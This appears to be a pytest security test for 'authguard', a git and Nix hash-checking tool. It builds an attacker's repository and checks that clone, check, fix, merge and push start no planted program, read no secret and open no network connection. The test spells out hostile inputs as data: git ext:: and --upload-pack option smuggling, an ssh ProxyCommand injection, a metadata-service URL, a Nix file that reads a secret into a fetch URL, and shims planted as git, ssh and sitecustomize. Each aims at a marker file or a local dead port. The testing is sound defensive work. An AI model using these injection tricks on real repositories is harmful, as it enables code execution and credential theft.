"""A hostile repository from clone to push: no program, no other file and no connection that the user did not allow."""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.support.guarded import REAL, digest, package
from tests.support.repos import Repo
from tests.support.traced import Seen, traced

if TYPE_CHECKING:
    from collections.abc import Sequence

pytestmark = pytest.mark.needs("strace")

PROGRAMS = {
    "git",
    "sh",
    "dash",
    "env",
    "cat",
    "git-authguard",
    REAL.name,
    "python",
    "python3",
    Path(sys.executable).name,
}
"""The programs that a command may start: git, its hooks, and authguard itself. Nix is not allowed here."""
FETCHES = {
    "loop": 'fetchurl { url = "http://127.0.0.1:9/@.tar.gz"; hash = "HASH"; }',
    "file": 'fetchurl { url = "file://@SECRET"; hash = "HASH"; }',
    "ext": 'fetchgit { url = "ext::sh -c touch% @MARK"; rev = "v@"; hash = "HASH"; }',
    "option": 'fetchgit { url = "--upload-pack=touch @MARK"; rev = "v@"; hash = "HASH"; }',
    "ssh": 'fetchgit { url = "ssh://-oProxyCommand=touch%20@MARK/x"; rev = "v@"; hash = "HASH"; }',
    "local": 'fetchgit { url = "/@SECRET"; rev = "v@"; hash = "HASH"; }',
    "meta": 'fetchzip { url = "http://169.254.169.254/latest/@.zip"; hash = "HASH"; }',
    "npm": 'buildNpmPackage { pname = "x"; version = "@"; src = ./.; npmDepsHash = "HASH"; }',
    "go": 'buildGoModule { pname = "x"; version = "@"; src = ./.; vendorHash = "HASH"; }',
}
CONFIG = """\
[evidence]
network = "all"

[[gate]]
name = "steal"
paths = ["**"]
file = "steal.nix"
attribute = "a"
"""
LOCK = {
    "nodes": {
        "root": {"inputs": {"a": "a"}},
        "a": {
            "locked": {"type": "path", "path": "/etc", "narHash": digest("lock")},
            "original": {"type": "indirect", "id": "a"},
        },
    },
    "root": "root",
    "version": 7,
}


def tool(version: int, content: int) -> str:
    """Return a package from a host on this machine: no test asks a public host."""
    return package(version, content).replace("  owner =", '  githubBase = "127.0.0.1:9";\n  owner =')


class Hostile:
    """The repository of an attacker, the clone of a maintainer, and the files that must stay safe."""

    def __init__(self, root: Path) -> None:
        """Make the repository of the attacker: its first commit is right."""
        self.root = root
        self.secret = root / "home" / "secret"
        self.mark = root / "mark"
        self.secret.parent.mkdir()
        self.secret.write_text("secret")
        self.temporary = root / "tmp"
        self.temporary.mkdir()
        self.theirs = Repo(root / "theirs")
        self._write(1, 1)
        self._trap()
        self.theirs.commit("one")
        self.origin = root / "origin.git"
        self.theirs.git("clone", "--quiet", "--bare", ".", str(self.origin))
        self.theirs.branch("pr")
        self._write(2, 1)
        self.theirs.commit("two")
        self.theirs.git("push", "--quiet", str(self.origin), "pr")
        self.clone = root / "clone"

    def _write(self, version: int, content: int) -> None:
        """Write fetches of every kind at one version, with the hashes of another version."""
        places = {"@MARK": str(self.mark), "@SECRET": str(self.secret)[1:], "@": str(version)}
        fetches = ""
        for name, code in FETCHES.items():
            for before, after in {**places, "HASH": digest(f"{name} {content}")}.items():
                code = code.replace(before, after)
            fetches += f"  {name} = {code};\n"
        names = "fetchurl, fetchgit, fetchzip, buildNpmPackage, buildGoModule"
        self.theirs.write("fetches.nix", f"{{ {names} }}: {{\n{fetches}}}\n")
        self.theirs.write("tool.nix", tool(version, content)).write("default.nix", "import ./tool.nix\n")

    def _trap(self) -> None:
        """Write every file that a tool might run or read from its current directory."""
        run = f'#!/bin/sh\necho "$0" >>{self.mark}\n'
        for name in (
            "git",
            "nix-build",
            "ssh",
            "python3",
            "hooks/pre-commit",
            ".githooks/pre-push",
            "gpg",
            "ps",
        ):
            self.theirs.write(f"bin/{name}" if "/" not in name else name, run)
            (self.theirs.path / (f"bin/{name}" if "/" not in name else name)).chmod(0o755)
        for name in (
            "sitecustomize",
            "usercustomize",
            "authguard",
            "yaml",
            "tree_sitter",
            "json",
            "conftest",
        ):
            self.theirs.write(f"{name}.py", f"open({str(self.mark)!r}, 'a').write({name!r})\n")
        self.theirs.write("authguard.toml", CONFIG).write("flake.lock", json.dumps(LOCK))
        self.theirs.write("flake.nix", f'{{ outputs = _: builtins.exec [ "{self.mark}" ]; }}\n')
        read = f'builtins.readFile "{self.secret}"'
        self.theirs.write("steal.nix", f'{{ a = builtins.fetchurl "http://127.0.0.1:9/${{{read}}}"; }}\n')
        self.theirs.write(".gitattributes", "* filter=run diff=run merge=run\n")
        self.theirs.write(
            ".gitmodules",
            f'[submodule "m"]\n path = m\n url = ext::sh -c touch% {self.mark}\n update = !touch {self.mark}\n',
        )
        self.theirs.write(".npmrc", "registry=http://127.0.0.1:9/\n").write(
            "go.mod", "module x\ngo 1.21\ntoolchain go1.99.0\n"
        )
        self.theirs.write(
            "package-lock.json",
            '{"lockfileVersion": 3, "packages": {"node_modules/a": {'
            '"resolved": "http://127.0.0.1:9/a.tgz", "integrity": "sha512-AA=="}}}',
        )
        self.theirs.link("link.nix", str(self.secret)).link("npins", "/etc").link(
            "folder", str(self.secret.parent)
        )
        inner = Repo(self.theirs.path / "bare", "--bare")
        inner.git("config", "core.fsmonitor", f"touch {self.mark}")
        inner.git("config", "core.worktree", "..")

    def environment(self) -> dict[str, str]:
        """The environment of a maintainer who allowed nothing."""
        kept = Repo(self.clone, init=False).environment()
        for name in [
            name for name in kept if name.startswith("GIT_CONFIG_") and name[11:14] in ("COU", "KEY", "VAL")
        ]:
            del kept[name]
        del kept["GIT_ALLOW_PROTOCOL"]
        path = f"{REAL.parent}{os.pathsep}{os.environ['PATH']}"
        kept.update(
            HOME=str(self.root / "home"), TMPDIR=str(self.temporary), PATH=path, PYTHONDONTWRITEBYTECODE="1"
        )
        return kept

    def run(self, *command: str, stdin: str = "") -> Seen:
        """Run a command of the maintainer in the clone."""
        here = self.clone if self.clone.is_dir() else self.root
        return traced(command, here, self.environment(), self.root, stdin)

    def demand_unharmed(self, seen: Seen, may_change: Sequence[Path], command: object) -> None:
        """Fail on a program, a changed file or a connection that is not allowed."""
        assert not self.mark.exists(), (command, self.mark.read_text())
        for program in seen.programs:
            if program.startswith(f"{self.clone}/.git/hooks/"):
                continue  # a shim that install wrote
            assert Path(program).name in PROGRAMS or Path(program).name.startswith("git-"), (command, program)
            assert not program.startswith((f"{self.clone}/", f"{self.theirs.path}/")), (command, program)
        assert not [path for path in seen.read if path == str(self.secret)], command
        wide = [one for one in seen.connected if "AF_INET" in one]
        assert wide == [], (command, wide)
        allowed = [
            str(path) for path in (*may_change, self.temporary, self.root / "home" / ".cache" / "authguard")
        ]
        for path in seen.changed:
            is_ours = any(path == one or path.startswith(f"{one}/") for one in allowed)
            assert (
                is_ours
                or path.startswith(("/dev/", "/proc/self/"))
                or path == str(self.root / "home" / ".cache")
            ), (command, path)


def test_a_hostile_repository_does_no_harm_from_clone_to_push(tmp_path: Path) -> None:
    """A run only changes its own directories, and the files that fix and bump edit."""
    hostile = Hostile(tmp_path)
    ours = hostile.clone / ".git" / "authguard"
    tree = [hostile.clone / name for name in ("tool.nix", "fetches.nix")]
    hostile.run("git", "clone", "--quiet", str(hostile.origin), str(hostile.clone))
    hooks = hostile.clone / ".git" / "hooks"
    hostile.demand_unharmed(hostile.run("git", "authguard", "install"), [ours, hooks], "install")
    (hostile.clone / "tool.nix").write_text(tool(2, 1))
    hostile.run("git", "add", "tool.nix")
    for words in (
        ["check"],
        ["check", "--all"],
        ["check", "--online", "--base", "origin/main", "--head", "origin/pr"],
        ["check", "--head", ":worktree", "--format", "markdown"],
        ["list"],
        ["list", "--rev", "origin/pr", "--format", "json"],
        ["explain", "tool.nix#hash"],
        ["audit"],
        ["allow"],
        ["verify", "--all"],
        ["build"],
    ):
        seen = hostile.run("git", "authguard", *words)
        assert seen.code in (0, 1, 2, 3), (words, seen.said)
        assert "Traceback" not in seen.said
        hostile.demand_unharmed(seen, [ours], words)
    for words in (["fix", "fetches.nix"], ["bump", "3.0", "--offline"]):
        hostile.demand_unharmed(hostile.run("git", "authguard", *words), [ours, *_beside(tree)], words)
    hostile.run("git", "reset", "--quiet", "--hard")
    own = [hostile.clone, hostile.origin]
    merged = hostile.run("git", "merge", "--no-edit", "--no-ff", "origin/pr")
    assert merged.code == 1, merged.said
    hostile.demand_unharmed(merged, own, "merge")
    hostile.run("git", "commit", "--quiet", "--no-verify", "--no-edit")
    pushed = hostile.run("git", "push", "origin", "HEAD:main")
    assert pushed.code == 1, pushed.said
    hostile.demand_unharmed(pushed, own, "push")


def _beside(files: list[Path]) -> list[Path]:
    """Return the files and their temporary copies."""
    return [*files, *(file.with_name(f".{file.name}") for file in files)]
